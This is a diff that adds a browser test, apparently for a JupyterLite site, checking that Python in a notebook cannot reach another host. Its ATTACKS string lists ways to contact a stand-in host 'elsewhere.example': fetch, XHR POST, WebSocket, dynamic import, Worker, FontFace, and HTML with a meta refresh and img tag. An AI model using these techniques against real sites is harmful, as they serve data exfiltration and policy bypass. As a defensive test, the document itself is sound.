@@ -204,6 +204,60 @@ def graded(folder: Path, downloads: Path) -> dict[str, float]:
     return {name: float(row[name]) for name in points(BY_HAND)}
 
 
+ATTACKS = """
+import js
+from pyodide.code import run_js
+
+other = "http://elsewhere.example/"
+attacks = {
+    "fetch": f"fetch('{other}', {{mode: 'no-cors'}})",
+    "request": f"(() => {{ const asked = new XMLHttpRequest(); asked.open('POST', '{other}', false); asked.send('x'); }})()",
+    "socket": f"new WebSocket('{other.replace('http', 'ws')}')",
+    "events": f"new EventSource('{other}')",
+    "module": f"import('{other}')",
+    "module by a blob": f"import(URL.createObjectURL(new Blob([`import '{other}'`], {{type: 'text/javascript'}})))",
+    "font": f"new FontFace('x', 'url({other})').load()",
+    "worker": f"new Worker(URL.createObjectURL(new Blob([`fetch('{other}')`])))",
+    "copy": "caches.keys()",
+    "database": "indexedDB.open('x')",
+    "files": "navigator.storage.getDirectory()",
+    "other pages": "new BroadcastChannel('x')",
+}
+done = []
+for name, code in attacks.items():
+    try:
+        found = run_js(code)
+        if hasattr(found, "then"):
+            await found
+        done.append(name)
+    except Exception:
+        pass
+from IPython.display import HTML, display
+display(HTML(f'<i>shown</i><meta http-equiv="refresh" content="0; url={other}"><link rel="preconnect" href="{other}"><img src="{other}">'))
+print("done:", done)
+"""
+
+
+def test_python_in_a_notebook_reaches_no_other_host_and_nothing_that_is_kept(desk: Desk) -> None:
+    """With the page's own policy and no header: JavaScript from Python, and what a cell shows."""
+    page = desk.open("causes")
+    address = page.url
+    page.locator(".jp-Notebook .jp-CodeCell .cm-content").first.click()
+    page.keyboard.press("Escape")
+    page.keyboard.press("a")  # a new cell above
+    expect(page.locator(".jp-Notebook .jp-CodeCell").first.locator(".cm-content")).to_have_text("")
+    page.keyboard.press("Enter")
+    page.keyboard.insert_text(ATTACKS)
+    page.keyboard.press("Shift+Enter")
+    output = page.locator(".jp-Notebook .jp-CodeCell").first.locator(".jp-OutputArea-output")
+    expect(output.filter(has_text="done:")).to_have_text(re.compile(r"done: \[\]"), timeout=PYTHON_MS)
+    page.wait_for_timeout(500)
+    assert page.url == address
+    assert desk.asked() == set()
+    page.close()
+    desk.complaints.clear()  # the browser says what it refused
+
+
 def test_policy_of_the_page_is_as_tight_as_jupyterlab_allows() -> None:
     """No script stands inside it, it loads from the site alone and sends nowhere else; the README has it as a header."""
     page = (SITE / "lite" / "notebooks" / "index.html").read_text(encoding="utf-8")
